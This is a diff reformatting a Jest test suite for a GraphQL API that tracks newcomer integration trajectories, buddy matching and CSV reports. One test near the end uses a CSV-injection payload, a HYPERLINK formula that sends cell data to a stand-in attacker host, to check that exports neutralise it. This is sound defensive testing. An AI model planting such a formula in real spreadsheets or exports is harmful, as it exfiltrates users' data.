@@ -69,7 +69,8 @@ describe('trajectories and reports', () => {
 
   const coordinator = (query: string, variables: Record<string, unknown> = {}) => api.gql(query, variables, world.tokens.coordinator);
   const count = async (sql: string, params: unknown[] = []) => Number((await api.dataSource.query(sql, params))[0].count);
-  const newcomer = (participant: Record<string, unknown> = {}) => registerNewcomer(api, world, intakeSessionId, { firstName: `Nieuwkomer ${(newcomerCount += 1)}`, ...participant });
+  const newcomer = (participant: Record<string, unknown> = {}) =>
+    registerNewcomer(api, world, intakeSessionId, { firstName: `Nieuwkomer ${(newcomerCount += 1)}`, ...participant });
 
   beforeAll(async () => {
     api = await startTestApi();
@@ -99,7 +100,12 @@ describe('trajectories and reports', () => {
 
     it('loads the 82 (plus some outside the period) in the stated proportions', () => {
       expect(planned).toHaveLength(82);
-      expect(tally(planned.map((t) => t.kind), KINDS)).toEqual([
+      expect(
+        tally(
+          planned.map((t) => t.kind),
+          KINDS,
+        ),
+      ).toEqual([
         { key: 'BUDDY', count: 51 },
         { key: 'VOLUNTEERING', count: 14 },
         { key: 'ASSOCIATION', count: 16 },
@@ -123,7 +129,12 @@ describe('trajectories and reports', () => {
         { key: 'ASSOCIATION', count: 16 },
         { key: 'INTERNSHIP', count: 1 },
       ]);
-      expect(report.byReferralChannel).toEqual(tally(planned.map((t) => t.referralChannel), CHANNELS));
+      expect(report.byReferralChannel).toEqual(
+        tally(
+          planned.map((t) => t.referralChannel),
+          CHANNELS,
+        ),
+      );
       expect(report.byReferralChannel.reduce((sum: number, c: { count: number }) => sum + c.count, 0)).toBe(82);
       expect(report.byReferralChannel.find((c: { key: string }) => c.key === 'FMDO').count).toBe(planned.filter((t) => t.referralChannel === 'FMDO').length);
       expect(report.byStatus).toEqual([
@@ -134,10 +145,14 @@ describe('trajectories and reports', () => {
         { key: 'CLOSED', count: 3 },
       ]);
       // Cross-checks: the list with the same period, the database, and the whole history.
-      expect(dataOf(await coordinator(`query { trajectories(filter: { startsFrom: "2022-01-01", startsTo: "2023-09-30" }) { id } }`)).trajectories).toHaveLength(82);
+      expect(
+        dataOf(await coordinator(`query { trajectories(filter: { startsFrom: "2022-01-01", startsTo: "2023-09-30" }) { id } }`)).trajectories,
+      ).toHaveLength(82);
       expect(await count(`SELECT count(*) FROM trajectory WHERE starts_on BETWEEN '2022-01-01' AND '2023-09-30'`)).toBe(82);
       expect(dataOf(await coordinator(REPORT, { f: '2020-01-01', t: '2025-12-31' })).trajectoryReport.total).toBe(82 + OUTSIDE.length);
-      expect(dataOf(await coordinator(REPORT, { f: '2023-10-01', t: '2023-10-01' })).trajectoryReport.byKind).toEqual(tally(['VOLUNTEERING', 'INTERNSHIP'], KINDS));
+      expect(dataOf(await coordinator(REPORT, { f: '2023-10-01', t: '2023-10-01' })).trajectoryReport.byKind).toEqual(
+        tally(['VOLUNTEERING', 'INTERNSHIP'], KINDS),
+      );
     });
 
     it('trajectoryReportCsv holds the same figures', async () => {
@@ -147,7 +162,14 @@ describe('trajectories and reports', () => {
       const of = (dimension: string) => Object.fromEntries(rows.filter((r) => r.dimension === dimension).map((r) => [r.value, Number(r.trajectories)]));
       expect(of('total')).toEqual({ ALL: 82 });
       expect(of('kind')).toEqual({ BUDDY: 51, VOLUNTEERING: 14, ASSOCIATION: 16, INTERNSHIP: 1 });
-      expect(of('referral_channel')).toEqual(Object.fromEntries(tally(planned.map((t) => t.referralChannel), CHANNELS).map((c) => [c.key, c.count])));
+      expect(of('referral_channel')).toEqual(
+        Object.fromEntries(
+          tally(
+            planned.map((t) => t.referralChannel),
+            CHANNELS,
+          ).map((c) => [c.key, c.count]),
+        ),
+      );
       expect(Object.values(of('referral_channel')).reduce((a, b) => a + b, 0)).toBe(82);
       expect(of('status')).toEqual({ INTAKE: 74, MATCHED: 5, ACTIVE: 0, FOLLOW_UP: 0, CLOSED: 3 });
       expect(rows).toHaveLength(1 + KINDS.length + CHANNELS.length + STATUSES.length);
@@ -164,30 +186,57 @@ describe('trajectories and reports', () => {
   describe('a trajectory', () => {
     it('starts at INTAKE, or MATCHED when a buddy is given; a buddy must be a volunteer', async () => {
       const participantId = await newcomer({ preferredLanguage: 'prs' });
-      const intake = dataOf(await coordinator(CREATE, { i: { participantId, kind: 'BUDDY', referralChannel: 'FMDO', startsOn: '2026-08-01', notes: 'Via FMDO-trajectcoach' } })).createTrajectory;
-      expect(intake).toMatchObject({ kind: 'BUDDY', referralChannel: 'FMDO', startsOn: '2026-08-01', endsOn: null, status: 'INTAKE', notes: 'Via FMDO-trajectcoach', buddy: null, participant: { id: participantId } });
+      const intake = dataOf(
+        await coordinator(CREATE, { i: { participantId, kind: 'BUDDY', referralChannel: 'FMDO', startsOn: '2026-08-01', notes: 'Via FMDO-trajectcoach' } }),
+      ).createTrajectory;
+      expect(intake).toMatchObject({
+        kind: 'BUDDY',
+        referralChannel: 'FMDO',
+        startsOn: '2026-08-01',
+        endsOn: null,
+        status: 'INTAKE',
+        notes: 'Via FMDO-trajectcoach',
+        buddy: null,
+        participant: { id: participantId },
+      });
       expect(intake.history).toEqual([{ fromStatus: null, toStatus: 'INTAKE', note: null }]);
 
-      const matched = dataOf(await coordinator(CREATE, { i: { participantId, kind: 'VOLUNTEERING', referralChannel: 'SELF', startsOn: '2026-08-10', buddyId: world.userIds.volunteer } })).createTrajectory;
+      const matched = dataOf(
+        await coordinator(CREATE, {
+          i: { participantId, kind: 'VOLUNTEERING', referralChannel: 'SELF', startsOn: '2026-08-10', buddyId: world.userIds.volunteer },
+        }),
+      ).createTrajectory;
       expect(matched).toMatchObject({ status: 'MATCHED', buddy: { id: world.userIds.volunteer } });
       expect(matched.history).toEqual([{ fromStatus: null, toStatus: 'MATCHED', note: null }]);
 
       const before = await count(`SELECT count(*) FROM trajectory`);
-      expect(errorOf(await coordinator(CREATE, { i: { participantId, kind: 'BUDDY', referralChannel: 'FMDO', startsOn: '2026-08-01', buddyId: world.userIds.host } })).code).toBe('BAD_USER_INPUT');
-      expect(errorOf(await coordinator(CREATE, { i: { participantId, kind: 'BUDDY', referralChannel: 'FMDO', startsOn: '2026-08-01', endsOn: '2026-07-01' } })).code).toBe('BAD_USER_INPUT');
-      expect(errorOf(await api.gql(CREATE, { i: { participantId, kind: 'BUDDY', referralChannel: 'FMDO', startsOn: '2026-08-01' } }, world.tokens.volunteer)).code).toBe('FORBIDDEN');
+      expect(
+        errorOf(
+          await coordinator(CREATE, { i: { participantId, kind: 'BUDDY', referralChannel: 'FMDO', startsOn: '2026-08-01', buddyId: world.userIds.host } }),
+        ).code,
+      ).toBe('BAD_USER_INPUT');
+      expect(
+        errorOf(await coordinator(CREATE, { i: { participantId, kind: 'BUDDY', referralChannel: 'FMDO', startsOn: '2026-08-01', endsOn: '2026-07-01' } })).code,
+      ).toBe('BAD_USER_INPUT');
+      expect(
+        errorOf(await api.gql(CREATE, { i: { participantId, kind: 'BUDDY', referralChannel: 'FMDO', startsOn: '2026-08-01' } }, world.tokens.volunteer)).code,
+      ).toBe('FORBIDDEN');
       expect(await count(`SELECT count(*) FROM trajectory`)).toBe(before);
 
       // The buddy sees the trajectory they are the buddy of, and only that one.
       const seenByBuddy = dataOf(await api.gql(`{ trajectories { id } }`, {}, world.tokens.volunteer)).trajectories;
       expect(seenByBuddy).toEqual([{ id: matched.id }]);
-      expect(dataOf(await api.gql(`query($id: ID!) { trajectory(id: $id) { id status } }`, { id: matched.id }, world.tokens.volunteer)).trajectory).toEqual({ id: matched.id, status: 'MATCHED' });
+      expect(dataOf(await api.gql(`query($id: ID!) { trajectory(id: $id) { id status } }`, { id: matched.id }, world.tokens.volunteer)).trajectory).toEqual({
+        id: matched.id,
+        status: 'MATCHED',
+      });
       expect(errorOf(await api.gql(`query($id: ID!) { trajectory(id: $id) { id } }`, { id: intake.id }, world.tokens.volunteer)).code).toBe('FORBIDDEN');
     });
 
     it('moves through its statuses keeping the history; a move that is not allowed is a CONFLICT and changes nothing', async () => {
       const participantId = await newcomer({ preferredLanguage: 'ti' });
-      const id = dataOf(await coordinator(CREATE, { i: { participantId, kind: 'ASSOCIATION', referralChannel: 'INTEGRATION_AGENCY', startsOn: '2026-06-01' } })).createTrajectory.id;
+      const id = dataOf(await coordinator(CREATE, { i: { participantId, kind: 'ASSOCIATION', referralChannel: 'INTEGRATION_AGENCY', startsOn: '2026-06-01' } }))
+        .createTrajectory.id;
       const changes = () => count(`SELECT count(*) FROM trajectory_status_change WHERE trajectory_id = $1`, [id]);
 
       const skip = errorOf(await coordinator(CHANGE, { id, s: 'ACTIVE' }));
@@ -206,7 +255,11 @@ describe('trajectories and reports', () => {
       expect(await changes()).toBe(4);
       expect(errorOf(await coordinator(CHANGE, { id, s: 'MATCHED' })).code).toBe('CONFLICT');
       // Closing ends it today (by the test clock).
-      expect(dataOf(await coordinator(CHANGE, { id, s: 'CLOSED', n: 'Werk gevonden' })).changeTrajectoryStatus).toEqual({ id, status: 'CLOSED', endsOn: '2026-08-15' });
+      expect(dataOf(await coordinator(CHANGE, { id, s: 'CLOSED', n: 'Werk gevonden' })).changeTrajectoryStatus).toEqual({
+        id,
+        status: 'CLOSED',
+        endsOn: '2026-08-15',
+      });
       expect(errorOf(await coordinator(CHANGE, { id, s: 'ACTIVE' })).code).toBe('CONFLICT');
 
       const trajectory = dataOf(await coordinator(GET, { id })).trajectory;
@@ -223,9 +276,20 @@ describe('trajectories and reports', () => {
 
     it('keeps follow-up notes with their outcomes, in date order', async () => {
       const participantId = await newcomer({ preferredLanguage: 'uk' });
-      const id = dataOf(await coordinator(CREATE, { i: { participantId, kind: 'INTERNSHIP', referralChannel: 'ADULT_EDUCATION', startsOn: '2026-03-01' } })).createTrajectory.id;
-      const later = dataOf(await coordinator(FOLLOW_UP, { id, i: { recordedOn: '2026-08-10', outcomes: ['FOUND_WORK_VIA_INTERIM', 'STAYED_MEMBER', 'FOUND_WORK_VIA_INTERIM'], note: 'Werkt via interim bij Barco' } })).addTrajectoryFollowUp;
-      expect(later).toEqual({ id: expect.any(String), recordedOn: '2026-08-10', outcomes: ['FOUND_WORK_VIA_INTERIM', 'STAYED_MEMBER'], note: 'Werkt via interim bij Barco' });
+      const id = dataOf(await coordinator(CREATE, { i: { participantId, kind: 'INTERNSHIP', referralChannel: 'ADULT_EDUCATION', startsOn: '2026-03-01' } }))
+        .createTrajectory.id;
+      const later = dataOf(
+        await coordinator(FOLLOW_UP, {
+          id,
+          i: { recordedOn: '2026-08-10', outcomes: ['FOUND_WORK_VIA_INTERIM', 'STAYED_MEMBER', 'FOUND_WORK_VIA_INTERIM'], note: 'Werkt via interim bij Barco' },
+        }),
+      ).addTrajectoryFollowUp;
+      expect(later).toEqual({
+        id: expect.any(String),
+        recordedOn: '2026-08-10',
+        outcomes: ['FOUND_WORK_VIA_INTERIM', 'STAYED_MEMBER'],
+        note: 'Werkt via interim bij Barco',
+      });
       dataOf(await coordinator(FOLLOW_UP, { id, i: { recordedOn: '2026-05-02', outcomes: ['FURTHER_TRAINING'] } }));
       expect(errorOf(await coordinator(FOLLOW_UP, { id, i: { recordedOn: '2026-02-28', outcomes: ['OTHER'] } })).code).toBe('BAD_USER_INPUT');
       expect(errorOf(await api.gql(FOLLOW_UP, { id, i: { recordedOn: '2026-08-11', outcomes: ['OTHER'] } }, world.tokens.volunteer)).code).toBe('FORBIDDEN');
@@ -274,26 +338,39 @@ describe('trajectories and reports', () => {
         [buddies.Druk.id, 3],
         [buddies.Nederlands.id, 2],
       ]);
-      expect(anywhere[3]).toEqual({ buddy: { id: buddies.Nederlands.id }, score: 2, sharedLanguages: [], sameNeighbourhood: false, activeBuddyTrajectories: 0 });
+      expect(anywhere[3]).toEqual({
+        buddy: { id: buddies.Nederlands.id },
+        score: 2,
+        sharedLanguages: [],
+        sameNeighbourhood: false,
+        activeBuddyTrajectories: 0,
+      });
       expect(errorOf(await api.gql(SUGGEST_BUDDIES, { p: participantId }, buddies.Overleie.token)).code).toBe('FORBIDDEN');
     });
 
     it('takes "today" in Brussels: at 00:30 on 16 August (22:30 UTC on the 15th) a buddy away from the 16th is left out', async () => {
       dataOf(await coordinator(ADD_ABSENCE, { v: buddies.Heule.id, i: { startsOn: '2026-08-16', endsOn: '2026-08-31' } }));
       const participantId = await newcomer({ firstName: 'Zaid', preferredLanguage: 'ar' });
-      const trajectoryId = dataOf(await coordinator(CREATE, { i: { participantId, kind: 'BUDDY', referralChannel: 'SELF', startsOn: '2026-08-01' } })).createTrajectory.id;
+      const trajectoryId = dataOf(await coordinator(CREATE, { i: { participantId, kind: 'BUDDY', referralChannel: 'SELF', startsOn: '2026-08-01' } }))
+        .createTrajectory.id;
       const midnight = await startTestApi({ sharing: api, now: new Date('2026-08-15T22:30:00Z') });
       try {
-        const ids = dataOf(await midnight.gql(SUGGEST_BUDDIES, { p: participantId }, world.tokens.coordinator)).suggestBuddies.map((s: { buddy: { id: string } }) => s.buddy.id);
+        const ids = dataOf(await midnight.gql(SUGGEST_BUDDIES, { p: participantId }, world.tokens.coordinator)).suggestBuddies.map(
+          (s: { buddy: { id: string } }) => s.buddy.id,
+        );
         expect(ids).toContain(buddies.Overleie.id);
         expect(ids).not.toContain(buddies.Heule.id);
         // Closing then ends the trajectory on the Brussels date too.
-        expect(dataOf(await midnight.gql(CHANGE, { id: trajectoryId, s: 'CLOSED' }, world.tokens.coordinator)).changeTrajectoryStatus.endsOn).toBe('2026-08-16');
+        expect(dataOf(await midnight.gql(CHANGE, { id: trajectoryId, s: 'CLOSED' }, world.tokens.coordinator)).changeTrajectoryStatus.endsOn).toBe(
+          '2026-08-16',
+        );
       } finally {
         await midnight.close();
       }
       // At 12:00 on the 15th the same buddy is still suggested.
-      expect(dataOf(await coordinator(SUGGEST_BUDDIES, { p: participantId })).suggestBuddies.map((s: { buddy: { id: string } }) => s.buddy.id)).toContain(buddies.Heule.id);
+      expect(dataOf(await coordinator(SUGGEST_BUDDIES, { p: participantId })).suggestBuddies.map((s: { buddy: { id: string } }) => s.buddy.id)).toContain(
+        buddies.Heule.id,
+      );
     });
   });
 
@@ -301,11 +378,25 @@ describe('trajectories and reports', () => {
     let programmeId: string;
 
     beforeAll(async () => {
-      programmeId = dataOf(await api.gql(`mutation($i: CreateProgrammeInput!) { createProgramme(input: $i) { id } }`, { i: { name: 'Babbelbox', kind: 'TABLE', defaultCapacity: 2 } }, world.tokens.admin)).createProgramme.id;
+      programmeId = dataOf(
+        await api.gql(
+          `mutation($i: CreateProgrammeInput!) { createProgramme(input: $i) { id } }`,
+          { i: { name: 'Babbelbox', kind: 'TABLE', defaultCapacity: 2 } },
+          world.tokens.admin,
+        ),
+      ).createProgramme.id;
       const session = async (startsAt: string, endsAt: string, capacity: number) =>
-        dataOf(await coordinator(CREATE_SESSION, { i: sessionInput(world, { programmeId, venueId: world.schoolVenueId, title: 'Babbelbox De Vlieger', startsAt, endsAt, capacity }) })).createSession.id as string;
+        dataOf(
+          await coordinator(CREATE_SESSION, {
+            i: sessionInput(world, { programmeId, venueId: world.schoolVenueId, title: 'Babbelbox De Vlieger', startsAt, endsAt, capacity }),
+          }),
+        ).createSession.id as string;
       const register = async (sessionId: string, firstName: string) =>
-        dataOf(await coordinator(REGISTER, { i: { sessionId, participant: { firstName, preferredLanguage: 'nl', contactChannel: 'NONE', consentToContact: false } } })).registerParticipant as { id: string; status: string };
+        dataOf(
+          await coordinator(REGISTER, {
+            i: { sessionId, participant: { firstName, preferredLanguage: 'nl', contactChannel: 'NONE', consentToContact: false } },
+          }),
+        ).registerParticipant as { id: string; status: string };
 
       // September: two sessions of two seats; three people want the first, so one waits.
       const first = await session('2026-09-10T09:00:00+02:00', '2026-09-10T10:30:00+02:00', 2);
@@ -326,7 +417,13 @@ describe('trajectories and reports', () => {
       const after = await startTestApi({ sharing: api, now: new Date('2026-10-15T08:00:00Z') });
       try {
         const mark = async (registrationId: string, attended: boolean) =>
-          dataOf(await after.gql(`mutation($id: ID!, $a: Boolean!) { markAttendance(registrationId: $id, attended: $a) { status } }`, { id: registrationId, a: attended }, world.tokens.coordinator));
+          dataOf(
+            await after.gql(
+              `mutation($id: ID!, $a: Boolean!) { markAttendance(registrationId: $id, attended: $a) { status } }`,
+              { id: registrationId, a: attended },
+              world.tokens.coordinator,
+            ),
+          );
         await mark(a.id, true);
         await mark(waiting.id, false);
         await mark(c.id, true);
@@ -362,8 +459,25 @@ describe('trajectories and reports', () => {
 
     it('programmeReportCsv writes a programme name that looks like a formula as text (CSV injection)', async () => {
       const name = '=HYPERLINK("https://evil.example/?"&A1,"Klik")';
-      const id = dataOf(await api.gql(`mutation($i: CreateProgrammeInput!) { createProgramme(input: $i) { id } }`, { i: { name, kind: 'TABLE', defaultCapacity: 2 } }, world.tokens.admin)).createProgramme.id;
-      dataOf(await coordinator(CREATE_SESSION, { i: sessionInput(world, { programmeId: id, venueId: world.schoolVenueId, title: 'Formule', startsAt: '2026-11-05T09:00:00+01:00', endsAt: '2026-11-05T10:00:00+01:00', capacity: 2 }) }));
+      const id = dataOf(
+        await api.gql(
+          `mutation($i: CreateProgrammeInput!) { createProgramme(input: $i) { id } }`,
+          { i: { name, kind: 'TABLE', defaultCapacity: 2 } },
+          world.tokens.admin,
+        ),
+      ).createProgramme.id;
+      dataOf(
+        await coordinator(CREATE_SESSION, {
+          i: sessionInput(world, {
+            programmeId: id,
+            venueId: world.schoolVenueId,
+            title: 'Formule',
+            startsAt: '2026-11-05T09:00:00+01:00',
+            endsAt: '2026-11-05T10:00:00+01:00',
+            capacity: 2,
+          }),
+        }),
+      );
       const csv = dataOf(await coordinator(PROGRAMME_REPORT_CSV, { f: '2026-11-01', t: '2026-11-30', p: id })).programmeReportCsv as string;
       expect((parse(csv, { columns: true, delimiter: ';', bom: true }) as { programme: string }[]).map((row) => row.programme)).toEqual([`'${name}`]);
       // The JSON report keeps the name as it was typed: only the CSV cell is neutralised.
